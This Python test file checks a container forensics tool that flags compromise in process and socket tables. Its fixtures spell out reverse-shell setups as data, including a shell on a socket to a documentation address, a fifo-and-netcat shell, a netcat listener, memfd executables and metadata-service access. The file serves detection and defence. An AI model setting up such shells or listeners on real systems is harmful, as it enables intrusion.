"""Processes and sockets as the host saw them: what must be found, and what ordinary services look like."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from analyze_cases import F, layer, make_case, process, rules, tcp

from forensics.analyze import build_analysis
from forensics.model import Finding, Severity, Verdict

PEER = "192.0.2.7:4444"


def examine(
    tmp_path: Path, processes: list[dict[str, Any]], sockets: list[dict[str, Any]] | None = None, **documents: Any
) -> dict[str, Finding]:
    given = {"processes": {"processes": processes, "views": {}}, "sockets": {"sockets": sockets or []}, **documents}
    with make_case(tmp_path / "case", None, given) as case:
        return rules(build_analysis(case, yara=False).findings)


def test_shell_on_a_socket(tmp_path: Path) -> None:
    shell = process(40, ["sh"], "/bin/busybox", fds={0: "socket:[9]", 1: "socket:[9]", 2: "socket:[9]"})
    found = examine(tmp_path, [shell], [tcp("172.17.0.2:5000", PEER, "ESTABLISHED", 9)])
    finding = found["process.shell-on-socket"]
    assert finding.severity is Severity.CRITICAL
    assert PEER in finding.matched
    assert next(reference.pid for reference in finding.evidence) == 40


def test_script_language_on_a_socket(tmp_path: Path) -> None:
    shell = process(40, ["python3", "-c", "x"], "/usr/bin/python3.11", fds=dict.fromkeys(range(3), "socket:[9]"))
    assert "process.shell-on-socket" in examine(tmp_path, [shell], [tcp("172.17.0.2:5000", PEER, "ESTABLISHED", 9)])


def test_shell_behind_a_fifo_and_netcat(tmp_path: Path) -> None:
    shell = process(40, ["sh", "-i"], "/bin/dash", fds={0: "/tmp/f", 1: "pipe:[5]", 2: "pipe:[5]"})
    tool = process(
        41, ["nc", "192.0.2.7", "4444"], "/bin/nc.openbsd", fds={0: "pipe:[5]", 1: "/tmp/f", 3: "socket:[9]"}
    )
    found = examine(tmp_path, [shell, tool], [tcp("172.17.0.2:5000", PEER, "ESTABLISHED", 9)])
    assert "process.shell-behind-network-tool" in found


def test_shell_on_a_terminal_of_a_connected_interpreter(tmp_path: Path) -> None:
    parent = process(40, ["python3", "x.py"], "/usr/bin/python3.11", fds={3: "socket:[9]", 4: "/dev/ptmx"})
    shell = process(41, ["/bin/bash"], "/bin/bash", fds=dict.fromkeys(range(3), "/dev/pts/0"), ppid=40)
    found = examine(tmp_path, [parent, shell], [tcp("172.17.0.2:5000", PEER, "ESTABLISHED", 9)])
    assert "process.shell-behind-network-tool" in found


@pytest.mark.parametrize("server", ["nginx", "apache2", "php-fpm8.2", "postgres", "redis-server"])
def test_shell_below_a_server(tmp_path: Path, server: str) -> None:
    parent = process(10, [server], f"/usr/sbin/{server}")
    shell = process(11, ["sh", "-c", "id"], "/bin/dash", ppid=10)
    assert "process.shell-under-server" in examine(tmp_path, [parent, shell])


def test_entry_point_shell_above_a_server_is_ordinary(tmp_path: Path) -> None:
    shell = process(10, ["sh", "/entrypoint.sh"], "/bin/dash")
    server = process(11, ["nginx: master process nginx"], "/usr/sbin/nginx", ppid=10)
    worker = process(12, ["node", "/app/npm.js"], "/usr/bin/node", ppid=10)
    helper = process(13, ["sh", "-c", "node server.js"], "/bin/dash", ppid=12)
    assert examine(tmp_path, [shell, server, worker, helper]) == {}


def test_deleted_memfd_and_strange_places(tmp_path: Path) -> None:
    found = examine(
        tmp_path,
        [
            process(20, ["/tmp/x"], "/tmp/x (deleted)", exe_deleted=True),
            process(21, ["dbus"], "/memfd:a (deleted)", exe_memfd=True),
            process(22, ["/var/lib/.c/d"], "/var/lib/.c/d"),
        ],
    )
    assert found["process.memfd-executable"].severity is Severity.CRITICAL
    assert found["process.deleted-executable"].severity is Severity.HIGH
    assert "process.runs-from-temporary-place" in found


def test_false_names(tmp_path: Path) -> None:
    found = examine(
        tmp_path,
        [
            process(20, ["[kworker/0:2]"], "/opt/app"),
            process(21, ["/usr/sbin/sshd", "-D"], "/opt/data/x"),
        ],
    )
    assert {"process.false-kernel-thread", "process.false-name"} <= set(found)


def test_titles_that_services_give_themselves_are_ordinary(tmp_path: Path) -> None:
    files = {"usr/bin/redis-server": F(target="redis-check-rdb"), "usr/bin/redis-check-rdb": F(b"x", 0o755)}
    table = [
        process(20, ["postgres: checkpointer "], "/usr/lib/postgresql/15/bin/postgres"),
        process(21, ["-bash"], "/usr/bin/bash"),
        process(22, ["sh", "-c", "sleep 9"], "/usr/bin/dash"),
        process(23, ["redis-server *:6379"], "/usr/bin/redis-check-rdb"),
        process(24, ["php-fpm: pool www"], "/usr/sbin/php-fpm8.2"),
        process(25, ["sleep", "9"], "/bin/busybox"),
        process(26, ["gunicorn: master [app]"], "/usr/bin/python3.11"),
    ]
    with make_case(tmp_path / "case", [layer(files), layer({})], {"processes": {"processes": table}}) as case:
        assert rules(build_analysis(case, yara=False).findings) == {}


def test_listeners(tmp_path: Path) -> None:
    inspect = {"NetworkSettings": {"Ports": {"80/tcp": None}}, "HostConfig": {}, "Config": {"User": "app"}}
    found = examine(
        tmp_path,
        [
            process(10, ["nginx"], "/usr/sbin/nginx", fds={6: "socket:[1]"}),
            process(11, ["nc", "-l", "-p", "9"], "/bin/busybox", fds={3: "socket:[2]"}),
            process(12, ["app"], "/usr/bin/app", fds={3: "socket:[3]"}),
        ],
        [tcp("0.0.0.0:80", inode=1), tcp("0.0.0.0:9", inode=2), tcp("0.0.0.0:9100", inode=3), tcp("127.0.0.11:40000")],
        inspect=inspect,
    )
    assert found["network.backdoor-listener"].matched.startswith("0.0.0.0:9/tcp")
    assert found["network.unpublished-listener"].severity is Severity.LOW
    assert "9100" in found["network.unpublished-listener"].matched


def test_metadata_engine_and_strange_peers(tmp_path: Path) -> None:
    found = examine(
        tmp_path,
        [process(10, ["x"], "/dev/shm/x", fds={3: "socket:[1]"})],
        [
            tcp("172.17.0.2:1", "8.8.8.8:443", "ESTABLISHED", 1),
            tcp("172.17.0.2:2", "169.254.169.254:80", "ESTABLISHED", 2),
            {"proto": "unix", "state": "CONNECTED", "inode": 3, "path": "/var/run/docker.sock"},
        ],
    )
    assert {
        "network.strange-program-connected",
        "network.metadata-service",
        "network.engine-socket-in-use",
    } <= set(found)


def test_views_that_disagree(tmp_path: Path) -> None:
    documents = {
        "processes": {
            "processes": [process(10, ["a"], "/a"), process(11, ["b"], "/b")],
            "views": {"cgroup": [10, 11], "pid_namespace": [10]},
        }
    }
    with make_case(tmp_path / "case", None, documents) as case:
        found = rules(build_analysis(case, yara=False).findings)
    assert [reference.pid for reference in found["views.process-left-namespace"].evidence] == [11]


def test_hostile_documents_fail_nothing(tmp_path: Path) -> None:
    documents = {
        "processes": {"processes": [{"pid": "x"}, {"pid": 5, "argv": 7, "fds": [3], "environ": None}, 9], "views": 4},
        "sockets": {"sockets": [{"local_port": "a"}, None]},
        "inspect": {"HostConfig": [], "Config": "x"},
        "events": {"events": [{"Action": 5}]},
    }
    with make_case(tmp_path / "case", None, documents) as case:
        analysis = build_analysis(case, yara=False)
    assert [line.artefact for line in analysis.ledger if line.outcome.value == "failed"] == []
    assert analysis.verdict is not Verdict.COMPROMISED


@pytest.mark.parametrize(
    "table",
    [
        [process(1, ["httpd", "-f"], "/bin/busybox"), process(9, [], "", comm="sh")],
        [
            process(1, ["httpd", "-f"], "/bin/busybox"),
            process(7, ["crond", "-b"], "/bin/busybox"),
            process(9, ["/bin/sh", "-c", "find /tmp -mtime +7"], "/bin/busybox", ppid=7),
        ],
    ],
)
def test_what_falls_to_a_server_that_is_the_first_process(tmp_path: Path, table: list[dict[str, Any]]) -> None:
    with make_case(tmp_path / "case", None, {"processes": {"processes": table}}) as case:
        assert "process.shell-under-server" not in rules(build_analysis(case, yara=False).findings)
